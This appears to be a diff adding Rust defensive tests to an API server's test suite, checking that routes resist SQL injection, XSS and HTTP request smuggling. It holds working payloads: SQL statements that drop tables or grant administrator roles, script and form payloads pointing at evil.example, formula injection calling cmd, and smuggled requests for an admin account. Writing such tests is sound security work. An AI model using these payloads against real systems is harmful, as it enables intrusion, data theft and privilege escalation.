@@ -73,6 +73,264 @@ fn statements_and_markup_are_text() {
     assert!(server.must(&["check"]).contains("as they should be"));
 }
 
+/// What is tried at every place that takes a text: statements that would be true or false, that would
+/// wait, end another one, or read a table; in pairs whose answers must not differ.
+const STATEMENTS: &[(&str, &str)] = &[
+    ("x' OR '1'='1", "x' OR '1'='2"),
+    ("x\" OR \"1\"=\"1", "x\" OR \"1\"=\"2"),
+    ("1 OR 1=1", "1 OR 1=2"),
+    ("x' AND 1=1 --", "x' AND 1=2 --"),
+    ("x') OR ('a'='a", "x') OR ('a'='b"),
+    ("x%' OR 'a' LIKE 'a", "x%' OR 'a' LIKE 'b"),
+    (
+        "x' UNION SELECT name FROM account --",
+        "x' UNION SELECT nome FROM account --",
+    ),
+    ("x'; DROP TABLE comment; --", "x'; DROP TABLE kommen_; --"),
+    (
+        "x'; UPDATE account SET role='administrator' --",
+        "x'; UPDATE account SET role='administrat0r' --",
+    ),
+    (
+        "x'||(SELECT hex(hash) FROM api_key)||'",
+        "x'||(SELECT hex(hash) FROM api_kex)||'",
+    ),
+    ("x'||pg_sleep(5)||'", "x'||pg_sleeq(5)||'"),
+    (
+        "x'||randomblob(1000000000)||'",
+        "x'||randomblob(1000000001)||'",
+    ),
+    ("$1", "$2"),
+    ("?1", "?2"),
+    ("\\' OR 1=1 --", "\\' OR 1=2 --"),
+    ("x/**/OR/**/1=1", "x/**/OR/**/1=2"),
+];
+
+/// S13: statements at every place of every route's path, query and body, taken from the router, are
+/// texts: true and false ones bring the same, nothing waits, nothing fails, and the store is whole.
+fn no_route_takes_a_statement(server: &Server) {
+    use crate::tenancy::{body, short, takes_json};
+    let began = std::time::Instant::now();
+    let mut tried = 0;
+    let client = server.user(&["add", "mallory", "--tier", "duet-feeds"]);
+    for (method, path, operation) in crate::harness::routes(server) {
+        // What ends the one who asks, or waits for a file.
+        if path.contains("/feeds/") {
+            continue;
+        }
+        let good = takes_json(&operation).then(|| body(&method, &short(&path), 1));
+        let parameters = operation["parameters"]
+            .as_array()
+            .cloned()
+            .unwrap_or_default();
+        let queries = parameters.iter().filter(|one| one["in"] == "query");
+        let mut places: Vec<(Option<String>, Option<String>)> = queries
+            .map(|one| (one["name"].as_str().map(str::to_owned), None))
+            .collect();
+        if path.contains('{') {
+            places.push((None, None));
+        }
+        let mut leaves = Vec::new();
+        if let Some(good) = &good {
+            crate::tenancy::leaves(good, "", &mut leaves);
+        }
+        places.extend(leaves.into_iter().map(|leaf| (None, Some(leaf))));
+        for (query, leaf) in &places {
+            for (truth, lie) in STATEMENTS {
+                let ask = |text: &str| {
+                    let segments: Vec<_> = path
+                        .split('/')
+                        .map(|segment| match segment.starts_with('{') {
+                            true if query.is_none() && leaf.is_none() => {
+                                crate::harness::escape(text)
+                            }
+                            true => "a.example".to_owned(),
+                            false => segment.to_owned(),
+                        })
+                        .collect();
+                    let mut target = segments.join("/");
+                    if let Some(name) = query {
+                        target.push_str(&format!("?{name}={}", crate::harness::escape(text)));
+                    }
+                    let mut sent = good.clone().unwrap_or_default();
+                    if let Some(leaf) = leaf {
+                        *sent.pointer_mut(leaf).unwrap() = text.into();
+                    }
+                    let sent = match good.is_some() {
+                        true => sent.to_string(),
+                        false => String::new(),
+                    };
+                    client.send(&method, &target, &[], sent.as_bytes())
+                };
+                let (first, second) = (ask(truth), ask(lie));
+                tried += 1;
+                let what = format!("{method} {path} {query:?} {leaf:?} {truth}");
+                assert!(first.status < 500, "{what}: {}", first.json);
+                // What makes something makes it once.
+                let made = method != "GET" && [200, 409].contains(&first.status);
+                assert!(
+                    made || first.status == second.status,
+                    "{what}: {}",
+                    first.json
+                );
+                // A search finds what was sent in here as a text.
+                if method == "GET" && !path.ends_with("/search") {
+                    assert_eq!(
+                        first.json["meta"]["count"], second.json["meta"]["count"],
+                        "{what}"
+                    );
+                }
+                let told = String::from_utf8_lossy(&first.bytes);
+                assert!(!told.contains("syntax error"), "{what}: {told}");
+            }
+        }
+    }
+    assert!(tried > 2000, "{tried}");
+    // Of thousands of requests none has slept.
+    assert!(
+        began.elapsed() < 2 * crate::harness::PATIENCE,
+        "{:?}",
+        began.elapsed()
+    );
+    assert!(server.must(&["check"]).contains("as they should be"));
+    let user = server.client.get("/users/mallory").data();
+    assert!(user["attributes"]["privileges"].get("admin").is_none());
+    let users = server.client.get("/api/quorum/v1/users?limit=40").data();
+    let admins = users.as_array().unwrap().iter();
+    let admins = admins.filter(|one| one["attributes"]["privileges"]["admin"]["granted"] == true);
+    assert_eq!(admins.count(), 1);
+}
+
+#[test]
+fn no_route_takes_a_statement_for_sqlite() {
+    no_route_takes_a_statement(&Server::start());
+}
+
+#[test]
+fn no_route_takes_a_statement_for_postgres() {
+    let services = crate::grown::Services::start(false);
+    no_route_takes_a_statement(&Server::with(&services.settings(&[])));
+}
+
+/// Markup that runs, breaks out of something or hides; each is text everywhere. The forms are those of
+/// the usual collections: elements, handlers, addresses, templates, encodings, comments, spoofing.
+const MARKUP: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<math><mtext></p><style><img src=x onerror=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=//evil.example><input name=key>",
+    "<input autofocus onfocus=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "\"><script>alert(1)</script>",
+    "' onmouseover='alert(1)",
+    "\" autofocus onfocus=\"alert(1)",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "`${alert(1)}`",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${{7*7}} #{7*7} <%= 7*7 %> {{7*7}}",
+    "javascript:alert(1)//",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\u003cscript\\u003ealert(1)",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "+ADw-script+AD4-alert(1)",
+    "<scr\u{feff}ipt>alert(1)</scr\u{feff}ipt>",
+    "[x](javascript:alert(1)) ![x](x \"onerror=alert(1)\")",
+    "\u{202e}txt.exe\u{202c}",
+    "g\u{43e}\u{43e}gle.com \u{200b}\u{200d}\u{2060}",
+    "a\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+];
+
+/// S14: markup comes back as the text that it was, in JSON, wherever somebody may write something;
+/// what is made for people to see has it escaped and runs nothing.
+#[test]
+fn markup_is_text_wherever_it_is_written() {
+    let server = Server::start();
+    let client = &server.client;
+    let object = |kind: &str, attributes: Value| serde_json::json!({"data": {"type": kind, "attributes": attributes}});
+    for (number, text) in MARKUP.iter().enumerate() {
+        let comment = client.comment("/domains/a.example", text);
+        assert_eq!(
+            comment.headers["content-type"], "application/json",
+            "{text}"
+        );
+        assert_eq!(comment.headers["x-content-type-options"], "nosniff");
+        let comment = comment.data();
+        assert_eq!(comment["attributes"]["text"], *text);
+        let html = comment["attributes"]["html"].as_str().unwrap();
+        assert!(!html.contains(['<', '>', '"', '\'']), "{html}");
+        let again = client.get(&format!("/comments/{}", comment["id"].as_str().unwrap()));
+        assert_eq!(again.data()["attributes"]["text"], *text);
+        let collection = object(
+            "collection",
+            serde_json::json!({"name": text, "description": text}),
+        );
+        let mut collection = collection;
+        collection["data"]["raw_items"] = "a.example".into();
+        let collection = client.post("/collections", &collection).data();
+        assert_eq!(collection["attributes"]["name"], *text);
+        assert_eq!(collection["attributes"]["description"], *text);
+        let url = format!("http://paper{number}.example/");
+        let reference = object("reference", serde_json::json!({"url": url, "title": text}));
+        let reference = client.post("/references", &reference).data();
+        assert_eq!(reference["attributes"]["title"], *text);
+        let profile = serde_json::json!({"first_name": text, "profile_phrase": text});
+        let user = client
+            .patch("/users/admin", &object("user", profile))
+            .data();
+        assert_eq!(user["attributes"]["profile_phrase"], *text);
+        let report = object("false_positive", serde_json::json!({"text": text}));
+        let path = format!("/api/quorum/v1/domains/fp{number}.example/false_positives");
+        assert_eq!(
+            client.post(&path, &report).data()["attributes"]["text"],
+            *text
+        );
+        // A sandbox's report has a page for people.
+        let bytes = format!("ran {number}").into_bytes();
+        client.analysed("a", &bytes);
+        let path = format!("/api/quorum/v1/files/{}/behaviours", sha256(&bytes));
+        let ran = serde_json::json!({"sandbox_name": "Box", "command_executions": [text]});
+        let ran = client.post(&path, &object("file_behaviour", ran)).data();
+        assert_eq!(ran["attributes"]["command_executions"][0], *text);
+        let page = format!("/file_behaviours/{}/html", ran["id"].as_str().unwrap());
+        let page = client.get(&page);
+        assert_eq!(
+            page.headers["content-security-policy"],
+            "sandbox; default-src 'none'"
+        );
+        let html = String::from_utf8(page.bytes).unwrap();
+        let inside = html
+            .split("<pre>")
+            .nth(1)
+            .unwrap()
+            .split("</pre>")
+            .next()
+            .unwrap();
+        assert!(!inside.contains(['<', '>', '"']), "{inside}");
+    }
+    let listed = client.get("/domains/a.example/comments?limit=40");
+    assert_eq!(listed.json["meta"]["count"], MARKUP.len());
+    assert!(server.must(&["check"]).contains("as they should be"));
+}
+
 /// S21: two files with one MD5 (Wang and Yu, 2004) are two files.
 #[test]
 fn files_whose_md5_meet_are_two() {
@@ -139,6 +397,37 @@ fn requests_that_could_be_two_are_refused() {
         ),
         ("a NUL in a header", "x-a: \0\r\n"),
         ("a bare CR in a header", "x-a: b\rc\r\n"),
+        ("a bare LF at a line's end", "x-a: b\nx-b: c\r\n"),
+        ("a bare LF that ends the head", "x-a: b\n\n"),
+        (
+            "a bare LF before a header of ours",
+            "x-a: b\nx-apikey: 0\r\n",
+        ),
+        ("CR, space, LF", "x-a: b\r \nx-b: c\r\n"),
+        (
+            "chunks, then a length",
+            "content-length: 5\r\ntransfer-encoding: chunked\r\n",
+        ),
+        (
+            "chunks in capitals and a length",
+            "Transfer-Encoding: CHUNKED\r\nContent-Length: 5\r\n",
+        ),
+        (
+            "chunks twice",
+            "transfer-encoding: chunked\r\ntransfer-encoding: chunked\r\n",
+        ),
+        ("chunks that are none", "transfer-encoding: xchunked\r\n"),
+        (
+            "chunks behind a tab",
+            "transfer-encoding:\tchunked\r\ncontent-length: 5\r\n",
+        ),
+        ("a length in hexadecimal", "content-length: 0x5\r\n"),
+        (
+            "a length beyond all",
+            "content-length: 99999999999999999999\r\n",
+        ),
+        ("a header without a name", ": b\r\n"),
+        ("a space in a header's name", "x a: b\r\n"),
     ] {
         let body = if what.contains("chunks") {
             "0\r\n\r\n"
@@ -335,4 +624,90 @@ fn what_is_no_request_is_refused_in_json_too() {
         assert_eq!(body["error"]["code"], "BadRequestError");
         assert!(body["error"]["message"].is_string());
     }
+}
+
+/// S22: behind a proxy that reads a request otherwise and gives the next of somebody else's to the same
+/// connection, nobody is answered what another has asked: theirs is answered, or the connection ends.
+#[test]
+fn nobody_behind_a_proxy_is_answered_what_another_has_smuggled() {
+    use std::io::{Read as _, Write as _};
+    let server = Server::start();
+    let address = server.origin.trim_start_matches("http://");
+    let key = &server.client.key;
+    // What would be answered in the place of the other's: it is never asked for otherwise.
+    let hidden =
+        format!("GET /api/v3/users/admin HTTP/1.1\r\nhost: a\r\nx-apikey: {key}\r\nx-swallows: ");
+    let chunk = format!("{:x}\r\n{hidden}\r\n0\r\n\r\n", hidden.len());
+    let after = format!("0\r\n\r\n{hidden}");
+    let cases = [
+        // By the proxy's reading the whole body belongs to the request: it believes the length …
+        (
+            "content-length: {}\r\ntransfer-encoding: chunked\r\n",
+            &after,
+        ),
+        (
+            "transfer-encoding: chunked\r\ncontent-length: {}\r\n",
+            &after,
+        ),
+        (
+            "content-length: {}\r\ntransfer-encoding:\tchunked\r\n",
+            &after,
+        ),
+        (
+            "content-length: {}\r\ntransfer-encoding: xchunked\r\n",
+            &after,
+        ),
+        (
+            "content-length: {}\r\nx-a: b\ntransfer-encoding: chunked\r\n",
+            &after,
+        ),
+        (
+            "content-length: {}\r\ntransfer-encoding: chunked, identity\r\n",
+            &after,
+        ),
+        // … or the chunks, or the first or the last of two lengths.
+        (
+            "content-length: 4\r\ntransfer-encoding: chunked\r\n",
+            &chunk,
+        ),
+        (
+            "transfer-encoding: chunked\r\ncontent-length: 4\r\n",
+            &chunk,
+        ),
+        (
+            "transfer-encoding: chunked\r\nx-a: b\ncontent-length: 4\r\n",
+            &chunk,
+        ),
+        ("content-length: {}\r\ncontent-length: 0\r\n", &after),
+        ("content-length: 0\r\ncontent-length: {}\r\n", &after),
+        (
+            "content-length: {}\r\nx-a: b\ncontent-length: 0\r\n",
+            &after,
+        ),
+        (
+            "x-a: b\ncontent-length: 0\r\ncontent-length: {}\r\n",
+            &after,
+        ),
+        ("content-length: {}\r\nx-a: b\n\n\r\n", &hidden),
+    ];
+    for (head, body) in cases {
+        let head = head.replace("{}", &body.len().to_string());
+        let mut proxy = std::net::TcpStream::connect(address).unwrap();
+        let quiet = Some(std::time::Duration::from_millis(700));
+        proxy.set_read_timeout(quiet).unwrap();
+        let first =
+            format!("POST /api/v3/urls HTTP/1.1\r\nhost: a\r\nx-apikey: {key}\r\n{head}\r\n{body}");
+        proxy.write_all(first.as_bytes()).unwrap();
+        let mut said = Vec::new();
+        let _ = proxy.read_to_end(&mut said);
+        // Perhaps it is closed: then the proxy opens another one.
+        let _ = proxy.write_all(b"GET /health HTTP/1.1\r\nhost: a\r\n\r\n");
+        let _ = proxy.read_to_end(&mut said);
+        let said = String::from_utf8_lossy(&said);
+        assert!(!said.contains("\"type\":\"user\""), "{head:?}: {said}");
+        let answers = said.matches("HTTP/1.1 ").count();
+        let healthy = said.matches("\"status\":\"ok\"").count();
+        assert!(answers - healthy <= 1, "{head:?}: {said}");
+    }
+    assert!(!server.log().contains("/users/{id}"), "{}", server.log());
 }
